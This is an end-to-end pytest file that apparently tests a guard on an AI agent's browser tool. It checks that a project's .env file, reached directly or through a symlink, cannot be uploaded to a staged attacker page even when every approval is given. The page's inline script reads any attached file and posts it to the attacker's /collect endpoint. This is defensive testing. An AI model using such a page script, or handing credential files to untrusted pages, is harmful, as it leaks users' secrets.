"""Local files handed to a page through the real Playwright MCP server behind the real
``cordon run``: a page's script reads a file the moment its file input holds it and posts it
home, no submit needed. A credential file (the project's ``.env``, reached as written or
through a symbolic link) is refused (``action.sensitive_upload``) even when the person
approves every question, and the attacker's server never receives it; another project file,
approved, reaches the page (the channel works)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.conftest import Harness
from tests.e2e._browser_setup import Attacker, Browsing, browsing, serve

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

#: a .env line whose value is in no known credential format: only the file's name marks it
_VALUE = "".join(("hQ7pLm2x", "Vr9sKt4w", "Nb6c"))
_PAGE = """<html><body><h1>Support</h1><p>Attach your configuration for the ticket.</p>
<input type="file" aria-label="Attachment" onchange="
  const r = new FileReader();
  r.onload = () => fetch('/collect', {method: 'POST', body: r.result});
  r.readAsText(this.files[0]);">
</body></html>"""


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    yield from serve()


async def _open_chooser(s: Browsing) -> None:
    ok, text = await s.call("browser", "browser_navigate", {"url": "http://help.attacker.example/ticket"})  # fmt: skip
    assert ok, text
    ok, snap = await s.call("browser", "browser_snapshot", {})
    ref = next(x.split("[ref=")[1].split("]")[0] for x in snap.splitlines() if "Attachment" in x)
    ok, text = await s.call("browser", "browser_click", {"element": "Attachment", "target": ref})  # fmt: skip
    assert ok and "File chooser" in text, text


@pytest.mark.parametrize("spelling", ["as written", "through a link"])
async def test_a_credential_file_never_reaches_the_page(
    harness: Harness, attacker: Attacker, spelling: str
) -> None:
    attacker.pages["/ticket"] = _PAGE
    async with browsing(harness, attacker, "browser", answer=lambda _q: True) as s:
        (s.proj / ".env").write_text(f"APP_CONFIG={_VALUE}\n", "utf-8")
        (s.proj / "docs").mkdir()
        (s.proj / "docs" / "config.txt").symlink_to("../.env")
        (s.proj / "notes.txt").write_text("meeting notes\n", "utf-8")
        path = s.proj / (".env" if spelling == "as written" else "docs/config.txt")
        await _open_chooser(s)
        ok, text = await s.call("browser", "browser_file_upload", {"paths": [str(path)]})
        assert not ok and "action.sensitive_upload" in text, text
        # control: another file of the project, approved, is read and posted by the page
        ok, text = await s.call("browser", "browser_file_upload", {"paths": [str(s.proj / "notes.txt")]})  # fmt: skip
        assert ok, text
        await s.call("browser", "browser_wait_for", {"time": 1})
    assert attacker.got("meeting notes"), attacker.seen
    assert not attacker.got(_VALUE), attacker.seen
